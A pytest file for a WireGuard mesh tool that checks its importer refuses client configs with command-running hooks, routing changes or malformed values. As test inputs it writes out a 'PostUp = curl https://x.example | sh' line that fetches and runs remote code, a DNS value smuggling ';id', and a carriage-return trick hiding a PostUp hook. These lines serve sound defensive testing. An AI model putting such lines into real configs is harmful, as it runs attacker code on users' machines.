"""import-config's check of the config it is given: only what wg-quick documents for a client."""
from __future__ import annotations

import pytest

from wgmesh_core.onboard import client_config_problems, finish_client_config
from wgmesh_core.render import client_config

from . import article_texts as art


@pytest.fixture
def rendered(spec):
    return client_config(spec, "e", hub_public_key=art.PUBLIC_KEYS["z"], psk=art.PSKS["e"])


def test_what_wgmesh_renders_passes(rendered):
    assert client_config_problems(rendered) == []
    finished = finish_client_config(rendered, art.PRIVATE_KEYS["e"])
    assert f"PrivateKey = {art.PRIVATE_KEYS['e']}" in finished.splitlines()


@pytest.mark.parametrize("line", ["PostUp = curl https://x.example | sh", "PreUp = id", "postdown = id",
                                  "  PREDOWN=id", "Table = off", "SaveConfig = true"])
def test_keys_that_run_commands_or_change_routing_are_refused(rendered, line):
    text = rendered.replace("MTU = 1280\n", f"MTU = 1280\n{line}\n")
    number = text.split("\n").index(line) + 1
    problems = client_config_problems(text)
    assert len(problems) == 1 and problems[0].startswith(f"line {number}: {line.split('=')[0].strip()} ")
    with pytest.raises(ValueError) as info:
        finish_client_config(text, art.PRIVATE_KEYS["e"])
    assert "nothing written" in str(info.value)


@pytest.mark.parametrize("text, why", [
    ("[Interface]\nFwMark = 51820\n[Peer]\n", "unknown key 'FwMark' in [interface]"),
    ("[Interface]\n[Peer]\nAddress = 10.0.0.1/32\n", "unknown key 'Address' in [peer]"),
    ("Endpoint = 1.2.3.4:5\n[Interface]\n[Peer]\n", "unknown key 'Endpoint' in [no section]"),
    ("[Interface]\n[Peer]\n[Hook]\n", "unknown section [Hook]"),
    ("[Interface]\n[Interface]\n[Peer]\n", "one [Interface]"),
    ("[Interface]\n", "at least one [Peer]"),
    ("[Interface]\nPrivateKey = " + art.PRIVATE_KEYS["f"] + "\n[Peer]\n", "already holds a PrivateKey"),
    ("[Interface]\nMTU = 1280 PostUp\n[Peer]\n", "MTU: '1280 PostUp' is not a number"),
    ("[Interface]\nDNS = 1.1.1.1, evil;id\n[Peer]\n", "neither an address nor a search domain"),
    ("[Interface]\n[Peer]\nPublicKey = " + "A" * 43 + "=\n", "the all-zero key"),
    ("[Interface]\n[Peer]\nEndpoint = 1.2.3.4:51820 x\n", "contains whitespace"),
    ("[Interface]\n[Peer]\nAllowedIPs = 0.0.0.0/0, ::/0, nope\n", "'nope' is not an address"),
    ("[Interface]\n[Peer]\nPersistentKeepalive = \u0661\n", "not a number"),
    ("[Interface]\n[Peer]\n# comment\rPostUp = id\n", "control character"),
    ("[Interface]\n[Peer]\nno equals sign\n", "is not 'Key = value'"),
])
def test_anything_else_is_refused_naming_the_line(text, why):
    problems = client_config_problems(text)
    assert any(why in problem for problem in problems), problems


def test_comments_and_the_placeholder_are_fine(rendered):
    assert "# PrivateKey = " in rendered and client_config_problems(rendered + "# PostUp = id\n") == []
